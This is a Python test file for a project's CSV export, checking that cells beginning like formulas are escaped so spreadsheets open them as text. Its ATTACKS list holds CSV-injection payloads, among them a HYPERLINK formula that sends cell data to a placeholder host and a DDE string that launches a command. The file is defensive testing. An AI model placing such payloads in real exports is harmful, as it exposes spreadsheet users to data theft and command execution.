"""Every CSV Packline writes is safe to open in a spreadsheet: no cell starts as a formula (the OWASP rule)."""

from __future__ import annotations

import csv
import io
from pathlib import Path

from hypothesis import given
from hypothesis import strategies as st

from models.core.spreadsheets import FORMULA_STARTS, csv_bytes, spreadsheet_safe
from tests.support.handover_fixtures import packed_demo

ATTACKS = ['=HYPERLINK("http://example.invalid/?"&A1,"click")', "+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A9)",
           "\t=1+1", "\r=1+1"]


def cells(data: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline=""), delimiter=";"))


@given(st.lists(st.lists(st.text(max_size=12), max_size=4), max_size=5))
def test_no_cell_of_a_written_csv_starts_a_formula(rows: list[list[str]]) -> None:
    for row in cells(csv_bytes(rows)):
        for cell in row:
            assert not cell.startswith(FORMULA_STARTS), cell


def test_the_text_stays_readable() -> None:
    assert [spreadsheet_safe(a) for a in ATTACKS] == ["'" + a for a in ATTACKS]
    assert spreadsheet_safe("Петренко") == "Петренко" and spreadsheet_safe(None) == "" and spreadsheet_safe(7) == "7"


def test_the_batch_list_for_the_receiving_side_is_safe(tmp_path: Path) -> None:
    """A list with formula names (from a forged or careless file) goes out as plain text."""
    demo = packed_demo(tmp_path)
    for index, attack in enumerate(ATTACKS[:4], start=1):
        demo.db.execute("UPDATE recipients SET surname = ? WHERE list_number = ?", [attack, str(index)])
    service, station, user = demo.workspace.batch_service(), demo.station, demo.supervisor
    batch = service.create_batch(station, user, demo.campaign.id).batch_code
    assert batch is not None
    for code in demo.sealed[:6]:
        assert service.add(station, user, batch, code).accepted
    assert service.close(station, user, batch).accepted
    result = demo.workspace.receiving_service().export(batch, tmp_path / "out")
    (listing,) = [path for path in result.files if path.suffix == ".csv"]
    written = cells(listing.read_bytes())
    surnames = {row[3] for row in written[1:]}  # after No., List number, Package code
    assert {"'" + attack for attack in ATTACKS[:4]} <= surnames
    assert all(not cell.startswith(FORMULA_STARTS) for row in written for cell in row)
